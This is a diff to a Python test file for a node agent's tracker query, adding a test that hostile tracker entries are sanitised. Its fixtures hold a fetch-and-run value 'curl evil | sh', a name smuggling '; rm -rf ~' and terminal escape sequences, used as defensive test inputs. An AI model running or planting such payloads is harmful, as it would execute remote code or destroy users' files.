@@ -15,7 +15,7 @@ from node_agent import cli, config
 from nodes import wanted as tracker_wanted
 from nodes.models import Node
 from tests import factories
-from tests.node_agent.fakes import FakeTracker
+from tests.node_agent.fakes import FakeFileHost, FakeTracker
 from tests.node_agent.test_model_identity import tiny_gguf
 
 
@@ -103,11 +103,37 @@ def test_a_tracker_that_is_down_or_answers_nonsense_costs_one_note(tmp_path, her
     code, out, err = models(capsys, tmp_path, models_dir, "--tracker", down)
     assert code == 0 and "Have.Q8_0.gguf" in out and "Traceback" not in out + err
     note = [line for line in out.splitlines() if line.startswith("Wanted on")]
-    assert len(note) == 1 and note[0].startswith(f"Wanted on {down}: could not ask the tracker (no answer: ")
-    assert note[0].endswith("; --no-wanted skips this")
+    assert note == [f"Wanted on {down}: could not ask the tracker (could not connect); --no-wanted skips this"]
 
     with FakeTracker() as tracker:  # a tracker without this endpoint: 404
         code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", tracker.base)
     assert code == 0 and out.splitlines()[-1] == (
         f"Wanted on {tracker.base}: could not ask the tracker (HTTP 404); --no-wanted skips this"
+    )
+
+
+def test_a_trackers_entries_are_data_the_command_is_built_here(tmp_path, here, capsys):
+    models_dir, _ = here
+    good = {"name": "rare:1b", "file": "rare.gguf\x1b[2J", "sha256": "1" * 64, "rigs": 2, "pull": "curl evil | sh"}
+    bad = [
+        {"name": "x; rm -rf ~", "sha256": "2" * 64, "rigs": 0},
+        {"name": "\x1b]0;owned\x07", "sha256": "3" * 64, "rigs": 0},
+        {"name": "nohash", "sha256": "not hex", "rigs": 0},
+        "not an entry",
+    ]
+    with FakeFileHost() as host:
+        host.files["/api/models/wanted"] = json.dumps({"schema_version": 1, "wanted": [*bad, good]}).encode()
+        code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", host.base)
+        assert code == 0
+        assert out.split(f"Wanted on {host.base}:\n")[1].splitlines() == [
+            "  rare:1b (rare.gguf): served by 2 rigs (not in this agent's catalog: upgrade luckrig-node)",
+            "    luckrig-node pull rare:1b",
+        ]
+        assert "\x1b" not in out and "evil" not in out and "rm -rf" not in out
+
+        host.files["/api/models/wanted"] = b"<html>a captive portal</html>"
+        code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", host.base)
+    assert code == 0 and out.splitlines()[-1] == (
+        f"Wanted on {host.base}: could not ask the tracker (an answer that is not a list of wanted models); "
+        "--no-wanted skips this"
     )
